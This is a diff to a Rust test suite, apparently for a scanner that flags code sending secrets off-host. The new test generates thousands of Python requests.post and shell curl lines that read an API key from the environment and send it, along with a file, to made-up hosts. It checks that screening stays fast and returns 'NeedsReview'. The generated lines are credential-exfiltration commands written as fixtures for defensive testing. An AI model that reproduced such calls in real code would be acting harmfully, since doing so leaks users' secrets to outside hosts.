@@ -309,6 +309,27 @@ fn hostile_programs_cost_no_more_than_their_size() {
     }
 }
 
+/// A key that a thousand hosts are shown is looked up, not searched for.
+#[test]
+fn a_key_for_many_hosts_costs_no_more_than_its_lines() {
+    let lines = |line: &dyn Fn(usize) -> String| (0..1_000).map(line).collect::<String>();
+    let python = lines(&|n| {
+        format!(
+            "requests.post('https://h{n}.strange{n}.net/x', headers={{'Authorization': k}}, data=k)\n"
+        )
+    });
+    let python = format!("import os, requests\nk = os.environ['A_KEY']\n{python}");
+    let shell = lines(&|n| {
+        format!("curl -H \"Authorization: $A_KEY\" -d @f https://h{n}.strange{n}.net/x\n")
+    });
+    for (path, text) in [("a.py", python), ("a.sh", shell)] {
+        let start = std::time::Instant::now();
+        let screening = screen(&[(path, &text)]);
+        assert!(start.elapsed().as_secs() < 20, "{path}: {:?}", start.elapsed());
+        assert_eq!(screening.verdict, Verdict::NeedsReview, "{path}");
+    }
+}
+
 #[test]
 fn a_key_of_one_service_is_not_for_another() {
     let call = |host: &str| {
